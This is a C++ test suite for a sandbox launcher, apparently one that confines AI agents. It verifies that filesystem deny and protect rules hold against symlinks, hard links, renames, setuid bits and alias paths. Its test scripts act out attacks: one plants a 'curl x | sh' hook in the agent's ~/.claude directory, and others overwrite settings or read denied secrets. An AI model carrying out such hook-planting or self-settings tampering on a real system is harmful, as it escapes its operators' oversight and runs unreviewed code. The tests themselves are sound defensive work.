// filesystem.deny, deny_write and protect hold inside every grant: a filesystem.read or .write
// host path, and the workspace in cow, ro and rw mode, for a file that exists, a new file, a new
// file in a new directory, a directory prepared elsewhere and renamed into place, and a hard
// link. Table-driven: every rule kind x every grant kind, each attempt made by a real program in
// a real sandbox, the host checked afterwards. Where a rule could only be held by a cordon-fs
// view and this user cannot mount one, cordon must refuse to start, saying why.
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <map>
#include <sstream>

#include "tests/launcher/sandbox_fixture.h"

namespace cordon::testing {
namespace {

enum class Rule { Deny, DenyWrite, Protect };
enum class Grant { Read, Write, Cow, Ro, Rw };

const char* rule_field(Rule r) {
  return r == Rule::Deny ? "deny" : r == Rule::DenyWrite ? "deny_write" : "protect";
}
const char* grant_name(Grant g) {
  switch (g) {
    case Grant::Read:
      return "ReadGrant";
    case Grant::Write:
      return "WriteGrant";
    case Grant::Cow:
      return "CowWorkspace";
    case Grant::Ro:
      return "RoWorkspace";
    case Grant::Rw:
      return "RwWorkspace";
  }
  return "?";
}

// What each attempt targets, relative to the directory the grant shows. The rules name exactly
// these; "control.txt" is named by none, so a writable grant must let it through.
const char* const kTargets[] = {"existing.json", "new.json", "newdir/file.json",
                                "conf/settings.json", "linked.json"};

// The program: one line "NAME=ok" or "NAME=refused" per attempt, made in `dir`.
std::string attempts_script(const std::string& dir) {
  return "cd '" + dir +
         "' || exit 99\n"
         "try() { n=$1; shift; if \"$@\" >/dev/null 2>&1; then echo \"$n=ok\"; "
         "else echo \"$n=refused\"; fi; }\n"
         "try read_existing cat existing.json\n"
         "cat existing.json 2>/dev/null\n"  // its bytes, when readable: a deny must hide them
         "echo\n"
         "try write_existing sh -c 'echo PLANTED > existing.json'\n"
         "try symlink_write sh -c 'ln -s existing.json sl.json && echo PLANTED > sl.json'\n"
         "try remove_existing rm -f existing.json\n"
         "try new_file sh -c 'echo PLANTED > new.json'\n"
         "try new_dir sh -c 'mkdir -p newdir && echo PLANTED > newdir/file.json'\n"
         "try rename_into_place sh -c 'mkdir -p prep && echo PLANTED > prep/settings.json && "
         "mv -T prep conf'\n"
         "try hard_link sh -c 'echo PLANTED > ok.txt && ln ok.txt linked.json'\n"
         "try control sh -c 'echo fine > control.txt'\n";
}

std::map<std::string, std::string> outcomes(const std::string& out) {
  std::map<std::string, std::string> m;
  std::istringstream in(out);
  for (std::string line; std::getline(in, line);) {
    size_t eq = line.find('=');
    if (eq != std::string::npos && line.find(' ') == std::string::npos) {
      m[line.substr(0, eq)] = line.substr(eq + 1);
    }
  }
  return m;
}

bool host_has(const std::string& p) {
  struct stat st {};
  return ::lstat(p.c_str(), &st) == 0;
}

void chown_tree(const std::string& dir, uid_t uid) {
  if (::geteuid() == 0) {
    run_program({"chown", "-R", std::to_string(uid) + ":" + std::to_string(uid), dir});
  }
}

class DenyInGrant : public ::testing::TestWithParam<std::tuple<Rule, Grant>> {};

TEST_P(DenyInGrant, RuleHolds) {
  auto [rule, grant] = GetParam();
  SandboxFixture f;
  uid_t uid = f.make_workspace_owned();
  bool workspace = grant == Grant::Cow || grant == Grant::Ro || grant == Grant::Rw;
  std::string dir = workspace ? f.ws() : f.home() + "/grant";
  ::mkdir(dir.c_str(), 0755);
  write_text(dir + "/existing.json", "ORIGINAL\n");
  chown_tree(dir, uid);

  // The rules: relative in the workspace (where relative rules live), absolute for a grant.
  std::string rules;
  for (const char* t : kTargets) {
    rules +=
        std::string(rules.empty() ? "" : ", ") + "\"" + (workspace ? "" : dir + "/") + t + "\"";
  }
  std::string mode = grant == Grant::Cow ? "cow" : grant == Grant::Rw ? "rw" : "ro";
  std::string grants = grant == Grant::Read    ? "\"read\": [\"" + dir + "\"], "
                       : grant == Grant::Write ? "\"write\": [\"" + dir + "\"], "
                                               : "";
  std::string lists;
  for (Rule r : {Rule::Deny, Rule::DenyWrite, Rule::Protect}) {
    lists += std::string(", \"") + rule_field(r) + "\": [" + (r == rule ? rules : "") + "]";
  }
  write_text(f.home() + "/p.json",
             "{\"filesystem\": {" + grants + "\"mode\": \"" + mode + "\"" + lists + "}}");

  auto r = f.run({"-q", "--policy", f.home() + "/p.json"}, {"/bin/sh", "-c", attempts_script(dir)});
  const bool needs_view = grant == Grant::Write || grant == Grant::Rw;
  if (needs_view && !fs_views_here()) {
    // Fail closed: the rule would hold only for paths present at start.
    EXPECT_EQ(r.exit_code(), 125) << r.out << r.err;
    EXPECT_NE(r.err.find(std::string("filesystem.") + rule_field(rule) + "[0]"), std::string::npos)
        << r.err;
    EXPECT_NE(r.err.find("takes a cordon-fs view"), std::string::npos) << r.err;
    EXPECT_EQ(r.out.find("existing_"), std::string::npos) << "the program ran: " << r.out;
  } else {
    ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
    auto o = outcomes(r.out);
    ASSERT_EQ(o.size(), 9u) << r.out << r.err;
    const bool writable = grant == Grant::Write || grant == Grant::Rw || grant == Grant::Cow;
    EXPECT_EQ(o["control"], writable ? "ok" : "refused") << r.out;
    // A deny hides what exists; deny_write and protect leave it readable.
    EXPECT_EQ(o["read_existing"], rule == Rule::Deny ? "refused" : "ok") << r.out;
    EXPECT_EQ(r.out.find("ORIGINAL") == std::string::npos, rule == Rule::Deny) << r.out;
    for (const char* a : {"write_existing", "symlink_write", "remove_existing"}) {
      EXPECT_EQ(o[a], "refused") << a << "\n" << r.out << r.err;
    }
    // Paths created later. Through kernel overlayfs (cow for a user without FUSE) they are only
    // held back: the session's layer keeps them until a reviewed commit.
    const bool held_at_run = !(grant == Grant::Cow && !fs_views_here());
    if (held_at_run) {
      for (const char* a : {"new_file", "new_dir", "rename_into_place", "hard_link"}) {
        EXPECT_EQ(o[a], "refused") << a << "\n" << r.out << r.err;
      }
    }
  }
  // Whatever happened inside, the host's directory holds none of it.
  EXPECT_EQ(read_text(dir + "/existing.json"), "ORIGINAL\n");
  for (const char* t : kTargets) {
    if (std::string(t) != "existing.json") {
      EXPECT_FALSE(host_has(dir + "/" + t)) << t;
    }
  }
  EXPECT_FALSE(host_has(dir + "/sl.json") && read_text(dir + "/sl.json") == "PLANTED\n");
}

INSTANTIATE_TEST_SUITE_P(EveryRuleInEveryGrant, DenyInGrant,
                         ::testing::Combine(::testing::Values(Rule::Deny, Rule::DenyWrite,
                                                              Rule::Protect),
                                            ::testing::Values(Grant::Read, Grant::Write, Grant::Cow,
                                                              Grant::Ro, Grant::Rw)),
                         [](const auto& info) {
                           Rule r = std::get<0>(info.param);
                           return std::string(r == Rule::Deny        ? "Deny"
                                              : r == Rule::DenyWrite ? "DenyWrite"
                                                                     : "Protect") +
                                  "In" + grant_name(std::get<1>(info.param));
                         });

// Attack review F5: a symlink on the host gives a directory two spellings. A deny holds however
// the grant and the deny spell it: grant through the alias and deny the real path, the other way
// round, both through the alias, at the top of the grant and at depth; read and write grants.
struct AliasCase {
  bool grant_alias, deny_alias, deep, write;
};

class DenyThroughAlias : public ::testing::TestWithParam<AliasCase> {};

TEST_P(DenyThroughAlias, DeniedFilesStayHidden) {
  const AliasCase c = GetParam();
  SandboxFixture f;
  uid_t uid = f.make_workspace_owned();
  const std::string real = f.home() + "/real", alias = f.home() + "/alias";
  ASSERT_EQ(::mkdir(real.c_str(), 0755), 0);
  ASSERT_EQ(::mkdir((real + "/sub").c_str(), 0755), 0);
  ASSERT_EQ(::mkdir((real + "/sub/keys").c_str(), 0755), 0);
  write_text(real + "/sub/keys/id", "TOPSECRET1\n");
  write_text(real + "/sub/s.txt", "TOPSECRET2\n");
  write_text(real + "/sub/ok.txt", "PUBLIC\n");
  chown_tree(real, uid);
  ASSERT_EQ(::symlink("real", alias.c_str()), 0);
  const std::string g = (c.grant_alias ? alias : real) + (c.deep ? "/sub" : "");
  const std::string d = (c.deny_alias ? alias : real) + "/sub";
  write_text(f.home() + "/p.json",
             std::string("{\"filesystem\": {\"") + (c.write ? "write" : "read") + "\": [\"" + g +
                 "\"], \"deny\": [\"" + d + "/keys\", \"" + d + "/s.txt\"]}}");
  // Every spelling the program might try; only the grant's exists inside.
  const std::string in = g + (c.deep ? "" : "/sub");
  std::string script = "cat '" + in + "/ok.txt'; ";
  for (const std::string& base : {in, alias + "/sub", real + "/sub"}) {
    script += "cat '" + base + "/keys/id' '" + base + "/s.txt' 2>&1; ls '" + base + "/keys' 2>&1; ";
  }
  auto r = f.run({"-q", "--policy", f.home() + "/p.json"}, {"/bin/sh", "-c", script});
  if (c.write && (!fs_views_here() || (c.grant_alias && !c.deep))) {
    // A deny in a write grant takes a view, and a view never serves a directory named through a
    // symlink: refused at start, fail closed.
    EXPECT_EQ(r.exit_code(), 125) << r.out << r.err;
    EXPECT_EQ(r.out.find("PUBLIC"), std::string::npos) << r.out;
  } else {
    EXPECT_NE(r.out.find("PUBLIC"), std::string::npos) << "the grant works: " << r.out << r.err;
  }
  EXPECT_EQ(r.out.find("TOPSECRET"), std::string::npos) << r.out << r.err;
  EXPECT_EQ(r.out.find("id\n"), std::string::npos) << "the denied directory is listable: " << r.out;
}

INSTANTIATE_TEST_SUITE_P(
    EverySpelling, DenyThroughAlias,
    ::testing::Values(AliasCase{true, false, false, false}, AliasCase{false, true, false, false},
                      AliasCase{true, true, false, false}, AliasCase{true, false, true, false},
                      AliasCase{false, true, true, false}, AliasCase{true, false, false, true},
                      AliasCase{false, true, false, true}, AliasCase{true, false, true, true},
                      AliasCase{false, true, true, true}),
    [](const auto& info) {
      const AliasCase& c = info.param;
      return std::string(c.write ? "Write" : "Read") + "Grant" +
             (c.grant_alias ? "Alias" : "Real") + "Deny" + (c.deny_alias ? "Alias" : "Real") +
             (c.deep ? "AtDepth" : "");
    });

// Attack review F9: a write grant served by a cordon-fs view writes the host at once, with no
// review: no file there gets a setuid or setgid bit, whether made with it or chmodded to it.
TEST(DenyInGrant, WriteGrantViewMakesNoSetuidFileOnTheHost) {
  SandboxFixture f;
  uid_t uid = f.make_workspace_owned();
  const std::string g = f.home() + "/grant";
  ASSERT_EQ(::mkdir(g.c_str(), 0755), 0);
  write_text(g + "/old", "old\n", 0755);
  chown_tree(g, uid);
  write_text(f.home() + "/p.json",
             "{\"filesystem\": {\"write\": [\"" + g + "\"], \"deny\": [\"**/*.key\"]}}");
  const std::string script =
      "cd '" + g +
      "' || exit 99\n"
      "echo x > made && chmod 4755 made; echo chmod_suid=$?\n"
      "chmod 2755 old; echo chmod_sgid=$?\n"
      "python3 -c 'import os; os.close(os.open(\"created\", os.O_CREAT | os.O_WRONLY, 0o6755))'; "
      "echo create=$?\n"
      "mkdir -m 2775 d; echo mkdir=$?\n"
      "chmod 0700 old; echo chmod_plain=$?\n";
  auto r = f.run({"-q", "--policy", f.home() + "/p.json"}, {"/bin/sh", "-c", script});
  if (!fs_views_here()) {
    EXPECT_EQ(r.exit_code(), 125) << r.out << r.err;  // the deny inside takes a view
    return;
  }
  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
  auto o = outcomes(r.out);
  EXPECT_NE(o["chmod_suid"], "0") << r.out << r.err;
  EXPECT_NE(o["chmod_sgid"], "0") << r.out << r.err;
  EXPECT_EQ(o["create"], "0") << r.out << r.err;
  EXPECT_EQ(o["chmod_plain"], "0") << "an ordinary chmod still works: " << r.out << r.err;
  auto mode_of = [](const std::string& p) {
    struct stat st {};
    return ::lstat(p.c_str(), &st) == 0 ? st.st_mode & 07777 : 07777u;
  };
  EXPECT_EQ(mode_of(g + "/made") & (S_ISUID | S_ISGID), 0u) << std::oct << mode_of(g + "/made");
  EXPECT_EQ(mode_of(g + "/created") & (S_ISUID | S_ISGID), 0u)
      << std::oct << mode_of(g + "/created");
  EXPECT_EQ(mode_of(g + "/created") & 0111, 0111u) << std::oct << mode_of(g + "/created");
  EXPECT_EQ(mode_of(g + "/old"), 0700u) << std::oct << mode_of(g + "/old");
  // A directory's setgid only hands its group on: it stays.
  EXPECT_EQ(mode_of(g + "/d") & S_ISGID, static_cast<unsigned>(S_ISGID))
      << std::oct << mode_of(g + "/d");
}

// The issue's own reproduction: an agent given its state directory plants a hook the host runs.
TEST(DenyInGrant, TheAgentStateDirectoryKeepsItsSettingsAndHooks) {
  SandboxFixture f;
  uid_t uid = f.make_workspace_owned();
  std::string claude = f.home() + "/.claude";
  ::mkdir(claude.c_str(), 0755);
  write_text(claude + "/settings.json", "{}\n");
  chown_tree(claude, uid);
  write_text(f.home() + "/p.json",
             R"({"filesystem": {"mode": "ro", "write": ["~/.claude"],
                 "deny_write": ["~/.claude/settings.json"], "protect": ["~/.claude/hooks/**"]}})");
  auto r = f.run(
      {"-q", "--policy", f.home() + "/p.json"},
      {"/bin/sh", "-c",
       "echo PLANTED > ~/.claude/settings.json; echo \"write=$?\"; "
       "mkdir -p ~/.claude/hooks && echo 'curl x | sh' > ~/.claude/hooks/evil.sh; "
       "echo \"hook=$?\"; rm -f ~/.claude/settings.json; echo \"rm=$?\"; "
       "echo '{\"x\":1}' > ~/.claude/new.json && mv ~/.claude/new.json ~/.claude/settings.json; "
       "echo \"over=$?\"; echo session > ~/.claude/history.jsonl; echo \"own=$?\""});
  if (!fs_views_here()) {
    EXPECT_EQ(r.exit_code(), 125) << r.err;
    EXPECT_NE(r.err.find("filesystem.write[0] \"~/.claude\""), std::string::npos) << r.err;
    return;
  }
  ASSERT_EQ(r.exit_code(), 0) << r.err;
  for (const char* refused : {"write=0", "hook=0", "rm=0", "over=0"}) {
    EXPECT_EQ(r.out.find(refused), std::string::npos) << refused << "\n" << r.out << r.err;
  }
  EXPECT_NE(r.out.find("own=0"), std::string::npos) << r.out;  // the agent's own state persists
  EXPECT_EQ(read_text(claude + "/settings.json"), "{}\n");
  EXPECT_FALSE(host_has(claude + "/hooks"));
  EXPECT_EQ(read_text(claude + "/history.jsonl"), "session\n");
}

// The default protect rules inside a write grant are anchored at its root: a grant of
// ~/.claude is the agent's state, writable, while every default rule holds at any depth beneath
// it and beneath any other grant; cordon says at start that nothing keeps its settings.
TEST(DenyInGrant, DefaultProtectRulesAreAnchoredAtTheGrant) {
  SandboxFixture f;
  uid_t uid = f.make_workspace_owned();
  std::string claude = f.home() + "/.claude";
  std::string proj = f.home() + "/proj";
  ::mkdir(claude.c_str(), 0755);
  ::mkdir(proj.c_str(), 0755);
  chown_tree(claude, uid);
  chown_tree(proj, uid);
  write_text(f.home() + "/p.json",
             R"({"filesystem": {"mode": "ro", "write": ["~/.claude", "~/proj"]}})");
  auto r = f.run({"--policy", f.home() + "/p.json"},
                 {"/bin/sh", "-c",
                  "cd ~ || exit 99\n"
                  "try() { n=$1; shift; if \"$@\" >/dev/null 2>&1; then echo \"$n=ok\"; "
                  "else echo \"$n=refused\"; fi; }\n"
                  "try state sh -c 'echo s > .claude/history.jsonl'\n"
                  "try nested_hook sh -c 'mkdir -p .claude/repo/.git/hooks && "
                  "echo x > .claude/repo/.git/hooks/post-checkout'\n"
                  "try nested_claude sh -c 'mkdir -p .claude/sub/.claude && "
                  "echo x > .claude/sub/.claude/settings.json'\n"
                  "try proj_claude sh -c 'mkdir -p proj/.claude && echo x > proj/.claude/s.json'\n"
                  "try proj_rc sh -c 'echo x > proj/.bashrc'\n"
                  "try proj_file sh -c 'echo x > proj/a.c'\n"});
  if (!fs_views_here()) {
    EXPECT_EQ(r.exit_code(), 125) << r.err;
    return;
  }
  ASSERT_EQ(r.exit_code(), 0) << r.err;
  auto m = outcomes(r.out);
  EXPECT_EQ(m["state"], "ok") << r.out << r.err;
  EXPECT_EQ(m["proj_file"], "ok") << r.out;
  for (const char* n : {"nested_hook", "nested_claude", "proj_claude", "proj_rc"}) {
    EXPECT_EQ(m[n], "refused") << n << "\n" << r.out;
  }
  EXPECT_EQ(read_text(claude + "/history.jsonl"), "s\n");
  EXPECT_FALSE(host_has(claude + "/repo/.git/hooks/post-checkout"));
  EXPECT_FALSE(host_has(claude + "/sub/.claude/settings.json"));
  EXPECT_FALSE(host_has(proj + "/.claude/s.json"));
  EXPECT_FALSE(host_has(proj + "/.bashrc"));
  EXPECT_EQ(read_text(proj + "/a.c"), "x\n");
  EXPECT_NE(r.err.find("filesystem.write[0] \"~/.claude\" is a directory filesystem.protect["),
            std::string::npos)
      << r.err;
  EXPECT_EQ(r.err.find("filesystem.write[1]"), std::string::npos) << r.err;
}

// `cordon policy explain` says how the rules hold inside a write grant.
TEST(DenyInGrant, ExplainSaysTheTruth) {
  SandboxFixture f;
  write_text(f.home() + "/p.json",
             R"({"filesystem": {"write": ["/srv/agent-state"],
                 "deny_write": ["/srv/agent-state/settings.json"]}})");
  auto r = run_program({cordon_bin(), "policy", "explain", f.home() + "/p.json"}, {.env = f.env()});
  ASSERT_EQ(r.exit_code(), 0) << r.err;
  EXPECT_NE(r.out.find("filesystem: read-write /srv/agent-state (filesystem.write[0]); inside it"),
            std::string::npos)
      << r.out;
  EXPECT_NE(r.out.find("inside it /srv/agent-state/settings.json, **/.env, "), std::string::npos)
      << r.out;
  EXPECT_NE(r.out.find(" more hold for files created, renamed or linked later too: a directory is "
                       "served through a cordon-fs view"),
            std::string::npos)
      << r.out;
}

}  // namespace
}  // namespace cordon::testing
